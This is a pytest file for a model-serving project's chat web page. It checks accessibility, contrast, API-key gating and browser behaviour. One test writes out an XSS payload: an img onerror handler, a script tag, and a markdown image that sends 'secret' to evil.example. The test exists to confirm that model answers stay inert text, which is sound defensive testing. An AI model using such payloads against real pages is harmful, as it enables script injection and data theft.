"""The page at `/`: its files checked by parsers everywhere, and driven in a browser where there is one."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from lorgnette.serve.http.api_keys import ApiKeys
from lorgnette.serve.page_files import PAGE_FILES, PAGE_FOLDER
from tests.browser import Browser, browsing
from tests.pages import Page
from tests.serve.running import Running, png, running

HTML, CSS, JS = ((PAGE_FOLDER / name).read_text(encoding="utf-8") for name, _ in PAGE_FILES.values())
KEY = "a-key-of-sixteen-or-more"
PAIRS = [
    *(("ink", "page"), ("ink", "card"), ("ink", "mine"), ("soft", "page"), ("soft", "card"), ("soft", "mine")),
    *(("bad", "page"), ("bad", "card"), ("on-main", "main"), ("main", "page")),
]
"""Colours of text, and those that they stand on."""

ROLES = ("button", "textbox", "spinbutton", "combobox", "slider", "image", "link")
"""Roles of what a screen reader names."""


class Elements(HTMLParser):
    """Elements with their attributes, and what stands around each."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None], tuple[str, ...]]] = []
        self.around: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs), tuple(self.around)))
        if tag not in ("meta", "link", "input"):
            self.around.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.around.pop() == tag


def test_every_control_has_a_name_and_every_reference_its_element() -> None:
    elements = Elements(HTML).found
    ids = [attrs["id"] for _, attrs, _ in elements if "id" in attrs]
    assert len(ids) == len(set(ids))
    labelled = {attrs["for"] for tag, attrs, _ in elements if tag == "label" and "for" in attrs}
    assert labelled <= set(ids)
    for tag, attrs, around in elements:
        if tag in ("input", "textarea", "select"):
            assert attrs.get("id") in labelled or "label" in around or attrs.get("aria-label"), attrs
        for name in ("aria-labelledby", "aria-describedby"):
            assert name not in attrs or attrs[name] in ids
    assert {"header", "main", "footer", "h1"} <= {tag for tag, *_ in elements}
    assert {attrs.get("role") for _, attrs, _ in elements} >= {"log", "status", "alert"}
    assert ("html", {"lang": "en"}, ()) in elements


def test_the_page_is_one_script_and_one_sheet_of_its_own() -> None:
    page = Page(HTML)
    own = {"#text", "data:,", "/page.css", "/page.js", "/openapi.json", "/metrics", "/health"}
    assert set(page.links) == own
    for tag, attrs, _ in Elements(HTML).found:
        assert tag != "style" and "style" not in attrs and not any(name.startswith("on") for name in attrs)
    for text in (HTML, CSS, JS):
        assert "http://" not in text and "https://" not in text and "//cdn" not in text
    for door in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(", "import("):
        assert door not in JS, "what a model says must stay text"
    assert set(re.findall(r'find\("([\w-]+)"\)', JS)) <= set(re.findall(r'id="([\w-]+)"', HTML))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(scheme: str) -> None:
    """WCAG 2.2, AA: a contrast of 4.5."""
    light, dark = (dict(re.findall(r"--([\w-]+): (#\w{6})", part)) for part in re.findall(r":root \{([^}]*)\}", CSS))
    colours = light if scheme == "light" else dark
    for text, ground in PAIRS:
        bright, dim = sorted((_luminance(colours[text]), _luminance(colours[ground])), reverse=True)
        assert (bright + 0.05) / (dim + 0.05) >= 4.5, (text, ground)


def _luminance(colour: str) -> float:
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_its_files_want_no_key_and_its_calls_do() -> None:
    with running(ApiKeys([KEY])) as server:
        for path, (name, kind) in PAGE_FILES.items():
            status, headers, body = server.get(path)
            assert (status, headers["content-type"], body) == (200, kind, (PAGE_FOLDER / name).read_bytes())
            assert "default-src 'self'" in headers["content-security-policy"]
            assert server.get(path, Host="elsewhere.example")[0] == 400
        for path in ("/v1/models", "/openapi.json", "/metrics", "/page", "/page.js/", "//"):
            assert server.get(path)[0] == 401
        with browsing() as browser:
            if browser is not None:
                _give_keys(browser, server)


def _give_keys(browser: Browser, server: Running) -> None:
    browser.open(server.address)
    for key in ("wrong", KEY):
        browser.wait("document.getElementById('keys').open")
        browser.run(
            f"document.getElementById('key').value = '{key}';"
            "document.querySelector('#keys form').requestSubmit(document.querySelector('#keys button'))"
        )
        if key == "wrong":
            browser.wait("document.getElementById('wrong').textContent.includes('no valid API key')")
    browser.wait("document.documentElement.dataset.ready")
    assert browser.run("document.getElementById('model').textContent") == "tiny"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser | None]:
    with browsing() as found:
        yield found


def ready(browser: Browser, server: Running, **screen: int | bool) -> None:
    browser.errors.clear()
    browser.open(server.address + "/?" + str(len(screen)), **screen)
    browser.wait("document.documentElement.dataset.ready")


def drop(browser: Browser, *pictures: bytes) -> None:
    """Drop files on the page."""
    contents = json.dumps([base64.b64encode(one).decode() for one in pictures])
    browser.run(
        f"""{{ const data = new DataTransfer();
        {contents}.forEach((content, at) => data.items.add(new File(
          [Uint8Array.from(atob(content), (one) => one.charCodeAt(0))], `cat ${{at}}.png`, {{ type: "image/png" }})));
        document.dispatchEvent(new DragEvent("drop", {{ dataTransfer: data, cancelable: true }})); }}"""
    )
    browser.wait(f"document.querySelectorAll('#pictures li').length === {len(pictures)}")


def say(browser: Browser, text: str, most: int = 8) -> None:
    browser.run(
        f"document.getElementById('most').value = {most}; document.getElementById('text').value = {json.dumps(text)};"
        "document.getElementById('text').dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', cancelable: true}))"
    )


def facts(browser: Browser, turns: int) -> list[str]:
    script = (
        "[...document.querySelectorAll('article.assistant .facts:first-of-type, article.assistant .said + .facts')]"
    )
    browser.wait(f"{script}.length === {turns} && !document.getElementById('send').disabled")
    return browser.run(f"{script}.map((one) => one.textContent)")


def press(browser: Browser, label: str) -> None:
    browser.run(
        f"[...document.querySelectorAll('button')].findLast((one) => one.textContent === {json.dumps(label)}).click()"
    )


def test_a_conversation_about_pictures(browser: Browser | None, tiny: Running) -> None:
    if browser is None:
        return
    ready(browser, tiny, width=400, height=800, dark=True)
    drop(browser, png(90, 60, 301), png(60, 60, 302))
    say(browser, "what colour is the cat?")
    (first,) = facts(browser, 1)
    assert "cat 0.png: " in first and "cat 1.png: " in first and "cached" not in first and "answer 8" in first
    say(browser, "and now?")
    assert facts(browser, 2)[1].count(", cached") == 2, "pictures of an earlier turn are not encoded again"
    browser.run(
        "Object.defineProperty(navigator, 'clipboard', {value: {writeText: (text) => { window.copied = text; }}})"
    )
    press(browser, "Copy as curl")
    command = browser.wait("window.copied")
    assert command.startswith(f"curl {tiny.address}/v1/chat/completions ")
    assert tiny.ask(json.loads(command.partition("<<'END'\n")[2].removesuffix("\nEND")))[0] == 200
    press(browser, "Send again")
    assert len(facts(browser, 2)) == 2
    browser.run("document.querySelectorAll('article.user button')[0].click()")  # edits the first question
    assert browser.run("document.querySelectorAll('article').length") == 0
    assert browser.run("document.getElementById('text').value") == "what colour is the cat?"
    assert browser.run("document.querySelectorAll('#pictures li').length") == 2
    say(browser, "edited")
    facts(browser, 1)
    assert browser.run("document.documentElement.scrollWidth") <= 400
    names = [
        node.get("name", {}).get("value", "")
        for node in browser.send("Accessibility.getFullAXTree")["nodes"]
        if node.get("role", {}).get("value")
        in ("button", "textbox", "spinbutton", "combobox", "slider", "image", "link")
    ]
    assert len(names) > 8 and all(names)
    assert len(browser.shot().resize((40, 80)).getcolors(3200)) > 20, "something is drawn"
    assert browser.errors == []


def test_where_it_looked(browser: Browser | None, tiny: Running) -> None:
    if browser is None:
        return
    ready(browser, tiny, width=1000, height=800)
    drop(browser, png(90, 60, 303))
    say(browser, "what colour is the cat?")
    facts(browser, 1)
    press(browser, "Where did it look?")
    browser.wait("document.querySelectorAll('canvas').length === 1")
    said = browser.run("document.querySelector('.nothing, .facts:not(.said + .facts)').textContent")
    assert "than taking out random ones" in said
    assert browser.run("document.querySelector('canvas').getAttribute('aria-label')").startswith("Where the answer")
    browser.run("document.querySelectorAll('.words button')[1].click()")
    assert browser.run("document.querySelectorAll('.words button')[1].getAttribute('aria-pressed')") == "true"
    browser.run(
        "{ const one = document.querySelector('input[type=range]'); one.value = 0.25;"
        " one.dispatchEvent(new Event('input')); }"
    )
    assert browser.run("document.querySelector('canvas').style.opacity") == "0.25"
    press(browser, "Hide where it looked")
    assert browser.run("document.querySelectorAll('canvas').length") == 0
    assert browser.errors == []


def test_stop_ends_the_answer_in_the_engine(browser: Browser | None, tiny: Running) -> None:
    if browser is None:
        return
    ready(browser, tiny, width=1000, height=800)
    aborts = tiny.engine.counts.aborts
    say(browser, "tell me everything", most=150)
    browser.wait("!document.getElementById('stop').hidden")
    browser.run("document.getElementById('stop').click()")
    assert facts(browser, 1) == ["Stopped."]
    for _ in range(200):
        if tiny.engine.is_idle:
            break
        browser.run("new Promise((resolve) => setTimeout(resolve, 20))")
    assert tiny.engine.is_idle and tiny.engine.counts.aborts in (aborts, aborts + 1)


def test_answers_are_text(browser: Browser | None, tiny: Running) -> None:
    """HTML, scripts and pictures of markdown are shown as they are written; nothing is run or fetched."""
    if browser is None:
        return
    ready(browser, tiny, width=1000, height=800)
    hostile = '<img src=x onerror="window.run=1"><script>window.run=1</script> ![x](https://evil.example/?q=secret)'
    chunk = {"choices": [{"index": 0, "delta": {"content": hostile}, "finish_reason": "stop"}]}
    browser.run(
        f"""{{ window.asked = []; window.fetch = async (path) => {{ window.asked.push(path);
        return new Response({json.dumps("data: " + json.dumps(chunk) + chr(10) * 2)}); }}; }}"""
    )
    say(browser, "be evil")
    browser.wait("document.querySelector('article.assistant .said')?.textContent.length > 20")
    assert browser.run("document.querySelector('article.assistant .said').textContent") == hostile
    assert browser.run("document.querySelectorAll('#log img, #log script').length") == 0
    assert browser.run("[window.run ?? 0, window.asked]") == [0, ["/v1/chat/completions"]]
    assert browser.errors == []


def test_a_schema_that_is_no_json_and_a_refusal_are_said(browser: Browser | None, tiny: Running) -> None:
    if browser is None:
        return
    ready(browser, tiny, width=1000, height=800)
    browser.run("document.getElementById('schema').value = '{no'")
    say(browser, "hello")
    browser.wait("document.getElementById('status').textContent.startsWith('JSON schema: ')")
    browser.run("document.getElementById('schema').value = ''; document.getElementById('temperature').value = 9")
    press(browser, "Send again")
    browser.wait("document.getElementById('status').textContent.includes('temperature')")
    properties = {"a": {"type": "boolean"}}
    schema = {"type": "object", "properties": properties, "required": ["a"], "additionalProperties": False}
    browser.run(
        "document.getElementById('temperature').value = '';"
        f"document.getElementById('schema').value = {json.dumps(json.dumps(schema))};"
        "document.getElementById('most').value = 40"
    )
    press(browser, "Send again")
    facts(browser, 1)
    assert "a" in json.loads(browser.run("document.querySelector('article.assistant .said').textContent"))
